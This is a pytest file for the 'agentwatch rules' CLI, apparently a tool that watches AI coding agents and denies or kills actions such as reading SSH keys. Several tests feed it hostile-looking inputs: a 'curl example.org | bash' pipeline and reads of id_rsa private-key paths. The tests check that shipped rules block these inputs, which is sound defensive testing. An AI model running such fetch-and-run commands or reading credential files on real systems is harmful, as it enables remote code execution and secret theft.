"""`agentwatch rules`: what a person sees, what a program reads, and the exit codes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from agentwatch import admission
from agentwatch.cli.rules import rules
from agentwatch.cli.rules_reading import BEHIND, near
from agentwatch.errors import Diagnostic, NotRunningError, RuleErrors, UsageError
from agentwatch.rules import fields, load
from agentwatch.rules.model import KINDS
from agentwatch.rules.parse import RULE_KEYS
from agentwatch.rules.schema import FILE
from tests.unit.played import played

HEAD = "schema: agentwatch/v1\n"
GOOD = (
    HEAD
    + """\
rules:
  - id: keys
    on: read
    match: {path: /k/*}
    unless: {ssh: {process.exe: /usr/bin/ssh}}
    action: deny
    because: Keys are not for agents.
    instead: Ask.
    tests: [{hit: {path: /k/a}}, {miss: {path: /k/a, process.exe: /usr/bin/ssh}}]
  - id: noted
    on: [read, change]
    match: {path: /k/a}
    action: alert
    because: Noted.
    tests: [{hit: {path: /k/a}}]
"""
)


def agentwatch(*arguments: str) -> Result:
    result = CliRunner().invoke(rules, arguments)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


@pytest.fixture
def good(tmp_path: Path) -> str:
    path = tmp_path / "good.yaml"
    path.write_text(GOOD)
    return str(path)


@pytest.fixture
def bad(tmp_path: Path) -> str:
    path = tmp_path / "bad.yaml"
    path.write_text(GOOD.replace("path: /k/*", "pth: /k/*"))
    return str(path)


@pytest.fixture
def failing(tmp_path: Path) -> str:
    path = tmp_path / "failing.yaml"
    path.write_text(GOOD.replace("hit: {path: /k/a}", "hit: {path: /other}", 1))
    return str(path)


def test_check_says_nothing_about_good_rules(good: str) -> None:
    """Data is empty, the summary is a message, the exit code 0."""
    result = agentwatch("check", good)
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr == "2 rules in 1 file: 0 errors, 0 warnings\n"


def test_files_that_name_what_ships_are_read_beside_it(tmp_path: Path) -> None:
    """Agents and rules of the packs are known, which is said; what is counted is the file's own."""
    path = tmp_path / "local.yaml"
    path.write_text(
        GOOD.replace("on: read", "on: read\n    agents: codex")
        + "defaults: {claude-code: {connect: alert}}\n"
        + "overrides: {egress.cloud-metadata: {action: alert}}\n"
    )
    checked = agentwatch("check", str(path))
    assert (checked.exit_code, checked.stdout) == (0, "")
    assert checked.stderr == f"2 rules in 1 file: 0 errors, 0 warnings, {BEHIND}\n"
    tested = agentwatch("test", str(path))
    assert tested.stderr.splitlines() == [
        f"agentwatch: {BEHIND}: {near(str(load.packs()))}",
        "4 tests, 0 failed",
    ]
    rows = json.loads(agentwatch("list", str(path), "-o", "json").stdout)
    assert [row["id"] for row in rows] == [
        *("keys", "noted", "default:claude-code", "egress.cloud-metadata"),
    ]
    shown = agentwatch("show", "egress.cloud-metadata", str(path)).stdout
    assert f"# changed in {path}:19" in shown
    event = ("--on", "read", "--path", "/k/a", "--agent", "codex")
    assert agentwatch("explain", str(path), *event).stdout.startswith("deny by keys")


def test_files_that_need_no_others_are_read_alone(good: str) -> None:
    """Nothing of the packs is in the answer."""
    event = ("--on", "read", "--path", "/root/.ssh/id_rsa")
    assert agentwatch("explain", good, *event).stdout.startswith("none\n")
    assert BEHIND not in agentwatch("list", good).stderr


def test_a_rule_about_agents_is_tested_by_those_that_ship(tmp_path: Path) -> None:
    """`starts_agent` is worked out by the identities, and a file by itself has none."""
    path = tmp_path / "local.yaml"
    path.write_text(
        HEAD + "rules:\n  - {id: a, on: exec, match: {starts_agent: true}, action: alert, "
        "because: b, tests: [{hit: {path: /x/bin/claude}}, {miss: {path: /x/bin/x}}]}\n"
    )
    checked = agentwatch("check", str(path))
    assert checked.stderr == f"1 rule in 1 file: 0 errors, 0 warnings, {BEHIND}\n"


def test_names_that_nobody_defines_are_errors_beside_the_packs_too(tmp_path: Path) -> None:
    """With the likeliest of what ships."""
    path = tmp_path / "local.yaml"
    path.write_text(HEAD + "defaults: {claude-cod: {change: deny}}\n")
    told = agentwatch("check", str(path))
    assert told.exit_code == 1
    assert 'there is no agent "claude-cod". Did you mean "claude-code"?\n' in told.stdout


def test_what_is_to_be_in_force_stands_alone(tmp_path: Path) -> None:
    """A daemon that reads one file has no packs behind it; the message says where they are."""
    path = tmp_path / "local.yaml"
    path.write_text(HEAD + "defaults: {claude-code: {change: deny}}\n")
    with pytest.raises(RuleErrors) as caught:
        admission.admit([path], homes=())
    (said,) = caught.value.diagnostics
    assert said.message.endswith(f"known when its files are named too: {load.packs()}")


def test_check_says_which_rules_are_worth_nothing_today(tmp_path: Path) -> None:
    """In a line of its own, not as a warning."""
    path = tmp_path / "local.yaml"
    text = GOOD.replace("on: [read, change]", "on: listen").replace("path: /k/a}\n", "port: 1}\n")
    path.write_text(text.replace("[{hit: {path: /k/a}}]", "[{hit: {port: 1, addr: 192.0.2.1}}]"))
    told = agentwatch("check", str(path))
    assert told.stderr.splitlines() == [
        "2 rules in 1 file: 0 errors, 0 warnings",
        "1 rule is worth none here, for there is no probe yet (rules list says why): noted",
    ]


CROWD = (
    HEAD
    + "rules:\n"
    + "".join(
        f"  - {{id: r{n:03}, on: read, match: {{path: /x, process.exe: /bin/{n}}}, action: kill, "
        f"because: b, tests: [{{hit: {{path: /x, process.exe: /bin/{n}}}}}]}}\n"
        for n in range(178)
    )
)


def test_check_says_which_rules_have_no_place_in_the_kernel(tmp_path: Path) -> None:
    """They are worth less than they look: nobody has to ask for it."""
    path = tmp_path / "local.yaml"
    path.write_text(CROWD)
    told = agentwatch("check", str(path))
    assert (told.exit_code, told.stderr.splitlines()[1:]) == (
        0,
        ["2 rules stay with the engine for room: r176, r177 (agentwatch rules check -v)"],
    )
    shown = agentwatch("check", "-v", str(path))
    assert shown.stderr.splitlines()[1:] == ["2 rules stay with the engine for room: r176, r177"]
    assert shown.stdout.splitlines()[-1] == "  kill  r176, r177"


def test_check_shows_the_engines_rules_by_reason(tmp_path: Path) -> None:
    """What stops before what tells; what nothing sees is decided by nobody."""
    path = tmp_path / "local.yaml"
    count = "count: {over: 1, within: 1s, by: session}"
    made = [
        ("told", "on: exec, match: {args|re: x}, action: alert", "{args: [x]}"),
        ("unseen", "on: listen, match: {port: 1}, action: kill", "{port: 1}"),
        ("denied", "on: exec, match: {args|re: x}, action: deny", "{args: [x]}"),
        ("counted", f"on: read, match: {{path: /x}}, {count}, action: kill", "{path: /x}"),
    ]
    rules = [f"  - {{id: {i}, {r}, because: b, tests: [{{hit: {t}}}]}}\n" for i, r, t in made]
    path.write_text(HEAD + "rules:\n" + "".join(rules))
    shown = agentwatch("check", "-v", str(path)).stdout
    assert shown.partition("the image")[2].splitlines()[2:] == [
        "Nobody decides: there is no probe yet.",
        "  kill  unseen",
        "",
        "The engine decides: The engine counts.",
        "  kill  counted",
        "",
        "The engine decides: `args|re` is an expression, which only the engine can search",
        "for.",
        "  deny  denied",
        "  alert told",
    ]


def explained(path: Path, *flags: str) -> list[str]:
    return agentwatch("explain", str(path), "--on", "connect", *flags).stdout.splitlines()


def test_explain_says_what_becomes_of_this_connection(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One by an address is TCP's; a default refuses that, and kills who connects otherwise."""
    monkeypatch.setattr("agentwatch.cli.rules_reading.cgroup_root", lambda: Path("/"))
    path = tmp_path / "local.yaml"
    path.write_text(
        f"{HEAD}defaults: {{all: {{connect: deny}}}}\nrules:\n"
        '  - {id: meta, on: connect, match: {addr: [192.0.2.1, "2001:db8::1"]}, action: deny,\n'
        "     because: b, tests: [{hit: {addr: 192.0.2.1}}]}\n"
        "  - {id: both, on: connect, match: {proto: [tcp, unix], process.exe: /b}, action: deny,\n"
        "     because: b, tests: [{hit: {proto: tcp, process.exe: /b}}]}\n"
    )
    for flags in (("--addr", "192.0.2.1"), ("--addr", "2001:db8::1", "--port", "80")):
        shown = explained(path, *flags)
        assert shown[0] == "deny by meta (prevents)"
        assert "  kernel: it refuses it with EPERM, by meta" in shown
    shown = explained(path, "--addr", "192.0.2.1", "--proto", "icmp")
    assert shown[0] == "deny by meta (kills-after)"
    assert "  kernel: it kills, by meta" in shown
    assert explained(path, "--proto", "tcp", "--process.exe", "/b")[0] == "deny by both (prevents)"
    assert explained(path, "--port", "443")[0] == "deny by default (prevents)"
    shown = explained(path, "--unix", "/run/x", "--process.exe", "/b")
    assert shown[0] == "deny by both (kills-after)"
    assert "TCP" not in shown[2]
    other = explained(path, "--addr", "192.0.2.2", "--proto", "udp")
    assert other[0] == "deny by default (prevents)"


def test_list_shows_defaults(good: str, tmp_path: Path) -> None:
    """Among the rules of their file, with what they are worth."""
    local = tmp_path / "local.yaml"
    local.write_text(HEAD + "defaults: {all: {change: deny, listen: deny}}\n")
    lines = agentwatch("list", good, str(local)).stdout.splitlines()
    assert [line.split()[1:] for line in lines[4:6]] == [
        ["default:all", "change", "deny", "kills-after", "[3]"],
        ["default:all", "listen", "deny", "none", "[4]"],
    ]
    rows = json.loads(agentwatch("list", good, str(local), "-o", "json").stdout)
    assert [(row["id"], row["on"]) for row in rows[2:]] == [
        ("default:all", ["change"]),
        ("default:all", ["listen"]),
    ]


def test_explain_says_who_answers_a_change_that_is_no_opening(tmp_path: Path) -> None:
    """An opening the kernel kills for; of a deletion it tells, and the engine kills."""
    path = tmp_path / "rules.yaml"
    keys = "{id: keys, on: change, match: {path: /kept/**}, action: kill, because: x, tests: []}"
    path.write_text(f"{HEAD}rules:\n  - {keys}\n")
    event = ("explain", str(path), "--on", "change", "--path", "/kept/x", "--op")
    assert "  kernel: it kills, by keys" in agentwatch(*event, "open").stdout
    deleted = agentwatch(*event, "delete").stdout
    assert deleted.startswith("kill by keys (kills-after)")
    assert "  kernel: it has the engine decide" in deleted


def test_explain_says_that_a_home_is_one_of_tests_only(
    good: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The event of a green test finds nothing on a host without that home."""
    monkeypatch.setattr("agentwatch.admission.homes_here", lambda: ("/home/alice",))
    event = ("--on", "read", "--path")
    assert agentwatch("explain", good, *event, "/home/dev/.ssh/id").stdout.splitlines() == [
        "none",
        "  no rule matches, and no default applies",
        "  ~ is every home of this host: /home/dev is one in tests only",
    ]
    assert "in tests only" not in agentwatch("explain", good, *event, "/home/alice/x").stdout


def test_the_help_of_explain_says_what_a_field_is_of_every_kind() -> None:
    """Several kinds have a `path`; what is worked out is no option."""
    shown = " ".join(agentwatch("explain", "--help").stdout.split())
    assert "--path TEXT exec: the executable that runs" in shown
    assert "read, change, open: the file's canonical name" in shown
    assert "--starts_agent" not in shown


def test_check_shows_errors_with_a_caret(bad: str) -> None:
    """And exits 1."""
    result = agentwatch("check", bad)
    assert result.exit_code == 1
    assert result.stdout == (
        f'{bad}:5:13: error[AW201]: unknown field "pth". Did you mean "path"?\n'
        "        match: {pth: /k/*}\n"
        "                ^\n"
    )
    assert result.stderr == "1 error, 0 warnings\n"


def test_check_in_json_has_the_same(bad: str) -> None:
    """One object for each finding."""
    result = agentwatch("check", "-o", "json", bad)
    assert result.exit_code == 1
    assert json.loads(result.stdout) == [
        {
            "file": bad,
            "line": 5,
            "column": 13,
            "severity": "error",
            "code": "AW201",
            "message": 'unknown field "pth". Did you mean "path"?',
            "source": "    match: {pth: /k/*}",
        }
    ]


def test_check_of_good_rules_in_json_is_an_empty_list(good: str) -> None:
    """A program needs no special case."""
    assert json.loads(agentwatch("check", "-o", "json", good).stdout) == []


def test_check_fails_where_a_test_fails(failing: str) -> None:
    """A failing test is an error like others."""
    result = agentwatch("check", failing)
    assert result.exit_code == 1
    assert "error[AW401]: the test of keys fails for read: expected hit, got miss" in result.stdout


def test_test_counts_and_names_what_failed(good: str, failing: str) -> None:
    """Exit 1 when one fails, with its place."""
    fine = agentwatch("test", good)
    assert fine.exit_code == 0
    assert fine.stderr == "4 tests, 0 failed\n"
    assert [line.split()[:2] for line in fine.stdout.splitlines()] == [
        ["ok", "keys"],
        ["ok", "noted"],
    ]
    result = agentwatch("test", failing)
    assert result.exit_code == 1
    assert result.stderr == "4 tests, 1 failed\n"
    assert f"{failing}:10:13: the test of keys fails for read" in result.stdout


def test_test_in_json_has_every_outcome(failing: str) -> None:
    """A row for each test and kind."""
    rows = json.loads(agentwatch("test", "-o", "json", failing).stdout)
    assert [(row["rule"], row["kind"], row["passed"]) for row in rows] == [
        ("keys", "read", False),
        ("keys", "read", True),
        ("noted", "read", True),
        ("noted", "change", True),
    ]


def test_list_in_json_has_what_is_promised(good: str) -> None:
    """id, on, action, level, reason, file, line."""
    first, second = json.loads(agentwatch("list", "-o", "json", good).stdout)
    reason = first.pop("reason")
    assert first == {
        "id": "keys",
        "on": ["read"],
        "action": "deny",
        "level": "kills",
        "file": good,
        "line": 3,
    }
    assert reason.endswith(".")
    assert (second["on"], second["level"]) == (["read", "change"], "detects")


def test_list_in_observe_mode_claims_less(good: str) -> None:
    """Nothing is stopped there, and so nothing claims to."""
    result = agentwatch("list", "--mode", "observe", good)
    assert "kills" not in result.stdout
    assert result.stdout.count("detects") == 2


def test_list_says_why_in_eighty_columns(monkeypatch: pytest.MonkeyPatch) -> None:
    """Level and reason of every rule that ships, below files named as from here."""
    packs = load.shipped()
    monkeypatch.chdir(packs.parent)
    shown = agentwatch("list", str(packs)).stdout
    assert max(map(len, shown.splitlines())) <= 80
    rows = json.loads(agentwatch("list", "-o", "json", str(packs)).stdout)
    text = " ".join(shown.split())
    for row in rows:
        name = f"{row['line']} {row['id']} {','.join(row['on'])} {row['action']} {row['level']} ["
        assert name in text
        number = text.split(name)[1].split("]")[0]
        assert f"[{number}] {row['reason']}" in text
    assert {line for line in shown.splitlines() if line.endswith(".yaml")} == {
        f"{packs.name}/{Path(row['file']).name}" for row in rows
    }


def test_list_shows_what_was_overridden(good: str, tmp_path: Path) -> None:
    """With the place of the override; a file that is not below here by its whole name."""
    local = tmp_path / "local.yaml"
    local.write_text(HEAD + "overrides:\n  keys: {action: alert}\n")
    lines = agentwatch("list", good, str(local)).stdout.splitlines()
    assert lines[0] == good
    assert lines[2].strip() == f"changed in {local}:3"


def test_the_help_of_explain_shows_its_examples() -> None:
    """A line each, and no mark of the formatter's."""
    shown = agentwatch("explain", "--help").stdout
    assert "\\b" not in shown
    assert "\b" not in shown
    assert '    agentwatch rules explain --on exec --path /usr/bin/git --args "push' in shown


def test_explain_knows_names_on_foreign_file_systems() -> None:
    """As the probes give them: nothing of the host's is allowed there, and keys stay keys."""
    flags = ("--on", "read", "--path", "[0:57]/home/x/.ssh/id_rsa")
    shown = json.loads(agentwatch("explain", "-o", "json", *flags).stdout)
    assert (shown["action"], shown["rule"]) == ("deny", "secrets.ssh-private-keys")


def test_list_refuses_bad_rules_on_stderr(bad: str) -> None:
    """Nothing on stdout that a program could take for a list."""
    for verb in ("list", "test", "explain", "show"):
        more = {"explain": ["--on", "read"], "show": []}.get(verb, [])
        first = ["keys"] if verb == "show" else []
        told = agentwatch(verb, *first, bad, *more)
        assert (told.exit_code, told.stdout) == (1, "")
        assert "error[AW201]" in told.stderr
        as_json = agentwatch(verb, *first, bad, *more, "-o", "json")
        assert (as_json.exit_code, as_json.stdout) == (1, "")
        (error,) = json.loads(as_json.stderr)
        assert (error["code"], error["line"], error["column"]) == ("AW201", 5, 13)


def test_explain_says_who_wins_and_why(good: str) -> None:
    """With level, reasons and where the rules stand."""
    result = agentwatch("explain", good, "--on", "read", "--path", "/k/a")
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert lines[0] == "deny by keys (kills)"
    assert lines[1:3] == ["  because: Keys are not for agents.", "  instead: Ask."]
    assert f"  keys   deny, kills        wins  ({good}:3)" in lines
    assert "  kernel: it kills, by keys" in lines
    assert f"  noted  alert, detects     it matches  ({good}:11)" in lines


def test_explain_names_the_exception_that_carved_it_out(good: str) -> None:
    """The rule that would have won is not silent."""
    flags = ("--on", "read", "--path", "/k/a", "--process.exe", "/usr/bin/ssh")
    lines = agentwatch("explain", good, *flags).stdout.splitlines()
    assert lines[0] == "alert by noted (detects)"
    assert f'  keys   deny, kills        the exception "ssh" carves it out  ({good}:3)' in lines


def test_explain_all_says_what_did_not_hold(good: str) -> None:
    """For the rule somebody thought would match."""
    lines = agentwatch("explain", good, "--on", "read", "--path", "/x", "--all").stdout.splitlines()
    assert lines[0] == "none"
    assert f"  keys   deny, kills        path does not match  ({good}:3)" in lines


def test_explain_takes_an_event_as_json(good: str) -> None:
    """The same answer as with flags."""
    event = json.dumps({"on": "read", "path": "/k/a", "process.exe": "/usr/bin/ssh"})
    shown = json.loads(agentwatch("explain", good, "-o", "json", "--event", event).stdout)
    assert (shown["action"], shown["rule"], shown["response"]) == ("alert", "noted", "alert")
    outcomes = {row["id"]: row["outcome"] for row in shown["rules"]}
    assert outcomes == {"keys": "carved", "noted": "matched"}


def test_explain_parts_arguments_as_a_shell_does() -> None:
    """The line of a pipeline is one argument of the shell that ran it."""
    flags = ["--on", "exec", "--path", "/usr/bin/bash", "--stdin", "pipe", "--args", ""]
    flags += ["--process.exe", "/usr/bin/bash", "--process.args", "-c 'curl example.org | bash'"]
    shown = json.loads(agentwatch("explain", "-o", "json", *flags).stdout)
    assert (shown["action"], shown["rule"]) == ("deny", "execution.download-piped-to-shell")


@pytest.mark.parametrize(
    "flags",
    [
        ("--path", "/x"),
        ("--on", "read", "--path", "relative"),
        ("--on", "read", "--addr", "192.0.2.1"),
        ("--on", "connect", "--port", "https"),
        ("--on", "exec", "--args", "it's"),
        ("--event", "{"),
        ("--event", "[]"),
        ("--on", "read", "--path", "/x", "--event", "{}"),
    ],
)
def test_an_event_that_makes_no_sense_is_a_usage_error(flags: tuple[str, ...]) -> None:
    """Exit 2, with what to do."""
    with pytest.raises(UsageError) as caught:
        agentwatch("explain", *flags)
    assert caught.value.exit_code == 2
    assert caught.value.remedy


def test_without_paths_the_packs_that_ship_are_taken() -> None:
    """On a host where nothing is installed."""
    result = agentwatch("list")
    assert result.exit_code == 0
    assert "secrets.ssh-private-keys" in result.stdout


def test_a_missing_path_is_said(tmp_path: Path) -> None:
    """A finding, not a traceback."""
    result = agentwatch("check", str(tmp_path / "gone"))
    assert result.exit_code == 1
    assert "error[AW101]: cannot read it: No such file or directory" in result.stdout


# Writing rules -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_what_new_prints_passes_check(kind: str, tmp_path: Path) -> None:
    """Without a warning, tests included; with the header that editors read."""
    text = agentwatch("new", "my.rule", "--on", kind).stdout
    assert text.startswith(f"# yaml-language-server: $schema=./{FILE}\n")
    path = tmp_path / "new.yaml"
    path.write_text(text)
    admitted = admission.admit([path], homes=("/home/dev",))
    assert [(rule.id, rule.on) for rule in admitted.ruleset.rules] == [("my.rule", (kind,))]
    assert admitted.warnings == ()


def test_new_refuses_what_is_no_id() -> None:
    """It would only fail later."""
    with pytest.raises(UsageError, match="no id"):
        agentwatch("new", "My Rule")


def test_show_writes_a_rule_out_as_it_is_in_force(tmp_path: Path) -> None:
    """Lists and overrides in their places, in a form that is a rule again."""
    text = GOOD.replace("path: /k/*", "path: [$keys, /z]").replace(
        "    tests: [{hit: {path: /k/a}}, {",
        "    count: {over: 3, within: 90s, distinct: path}\n    tests: [{hit: {path: /k/a}}, {",
    )
    text = text.replace("action: deny", "action: kill\n    scope: session", 1)
    lists = (
        "lists: {keys: [/k/*, '~/.keys/**']}\noverrides: {keys: {action: alert, mode: observe}}\n"
    )
    path = tmp_path / "r.yaml"
    path.write_text(text + lists)
    shown = agentwatch("show", "keys", str(path)).stdout
    assert 'match: {"path": ["/k/*", "~/.keys/**", "/z"]}' in shown.splitlines()
    assert f"# changed in {path}:20" in shown.splitlines()
    again = tmp_path / "again.yaml"
    rule = "".join(f"    {line}\n" for line in shown.splitlines())
    again.write_text(HEAD + "rules:\n  -\n" + rule)
    first = json.loads(agentwatch("show", "keys", str(path), "-o", "json").stdout)
    assert json.loads(agentwatch("show", "keys", str(again), "-o", "json").stdout) == first
    assert first["count"] == {"over": 3, "within": "90s", "by": "session", "distinct": "path"}
    assert (first["action"], first["mode"], first["level"]) == ("alert", "observe", "detects")


def test_show_knows_no_other_rule(good: str) -> None:
    """The likeliest is named."""
    with pytest.raises(UsageError) as caught:
        agentwatch("show", "keyz", good)
    assert "keys" in caught.value.remedy


@pytest.mark.parametrize("kind", [None, *KINDS])
def test_fields_has_the_table(kind: str | None) -> None:
    """Every field of the kind, with its values, modifiers and whether a probe gives it."""
    shown = json.loads(agentwatch("fields", *([kind] if kind else []), "-o", "json").stdout)
    wanted = [f for f in fields.FIELDS if kind is None or kind in f.kinds]
    assert [row["name"] for row in shown] == [field.name for field in wanted]
    host = [row for row in shown if row["name"] == "host"]
    assert all(not row["probed"] for row in host)
    assert any(row["probed"] for row in shown)
    assert "|has" in agentwatch("fields").stdout


def test_the_schema_in_the_documentation_is_the_one_printed(repository: Path) -> None:
    """docs/schema has it for who has no agentwatch; both are made from the tables."""
    printed = agentwatch("schema").stdout
    assert (repository / "docs" / "schema" / FILE).read_text() == printed
    document = json.loads(printed)
    rule = document["properties"]["rules"]["items"]["properties"]
    assert tuple(rule) == RULE_KEYS
    assert set(document["definitions"]["match"]["properties"]) == set(fields.NAMES)


def test_explain_says_what_counts(tmp_path: Path) -> None:
    """A rule with count matches and does not act on one event."""
    path = tmp_path / "r.yaml"
    path.write_text(
        GOOD.replace("action: alert", "action: alert\n    count: {over: 5, within: 1s}")
    )
    shown = agentwatch("explain", str(path), "--on", "change", "--path", "/k/a").stdout
    assert shown.splitlines()[0] == "none"
    assert "it matches, and counts" in shown


def test_list_shows_what_is_disabled(good: str, tmp_path: Path) -> None:
    """With the file and line that did it."""
    local = tmp_path / "local.yaml"
    local.write_text(HEAD + "overrides:\n  noted: {enabled: false}\n")
    rows = json.loads(agentwatch("list", good, str(local), "-o", "json").stdout)
    noted = next(row for row in rows if row["id"] == "noted")
    assert (noted["level"], noted["reason"]) == ("none", "It is disabled.")
    assert noted["overridden"] == f"{local}:3"


# Asking the daemon -------------------------------------------------------------------------------


def test_a_rule_is_paused_and_resumed(tmp_path: Path) -> None:
    """With the seconds that were said, and the time it ends."""
    with played(tmp_path / "s", rules_pause={"rule": "keys", "until_at": 10**18}) as daemon:
        told = agentwatch("pause", "keys", "--for", "10m", "--socket", str(tmp_path / "s"))
        assert told.stdout.startswith("keys does not act until 2001-09-")
        daemon.answers["rules.pause"] = {"rule": "keys", "until_at": 0}
        told = agentwatch("resume", "keys", "--socket", str(tmp_path / "s"))
        assert told.stdout == "keys acts again\n"
    assert daemon.asked == [
        ("rules.pause", {"rule": "keys", "seconds": 600}),
        ("rules.pause", {"rule": "keys", "seconds": 0}),
    ]


@pytest.mark.parametrize("duration", ["10", "0m", "-5m", "31d", "m", "1e3s"])
def test_a_pause_has_an_end(duration: str, tmp_path: Path) -> None:
    """And what is no time is a usage error before anybody is asked."""
    with pytest.raises(UsageError, match="no time"):
        agentwatch("pause", "keys", "--for", duration, "--socket", str(tmp_path / "s"))


def test_a_reload_says_what_is_in_force_and_what_was_found(tmp_path: Path) -> None:
    """Warnings on stderr; a refusal comes as the errors of the files."""
    warning = {"file": "/r.yaml", "line": 3, "column": 9, "severity": "warning", "code": "AW501"}
    answer = {"generation": 7, "rules": 41, "warnings": [warning | {"message": "m", "source": ""}]}
    with played(tmp_path / "s", rules_reload=answer | {"restart": ["journal.dir"]}) as daemon:
        told = agentwatch("reload", "--socket", str(tmp_path / "s"))
        assert told.stdout == "41 rules in force, generation 7\n"
        assert "/r.yaml:3:9: warning[AW501]: m" in told.stderr
        assert "journal.dir" in told.stderr
        refused = RuleErrors((Diagnostic("/r.yaml", 1, 1, "error", "AW104", "no"),))
        daemon.answers["rules.reload"] = refused
        with pytest.raises(RuleErrors):
            agentwatch("reload", "--socket", str(tmp_path / "s"))


def test_without_a_daemon_nobody_is_asked(tmp_path: Path) -> None:
    """Exit code 3."""
    with pytest.raises(NotRunningError):
        agentwatch("reload", "--socket", str(tmp_path / "s"))


def test_list_says_that_it_asks_no_daemon(good: str) -> None:
    """What is in force may be other rules on other hooks; programs that read JSON need no word."""
    last = agentwatch("list", good).stdout.splitlines()[-1]
    assert last == "As compiled here; `agentwatch status` has what is in force."
    assert "As compiled here" not in agentwatch("list", "-o", "json", good).stdout
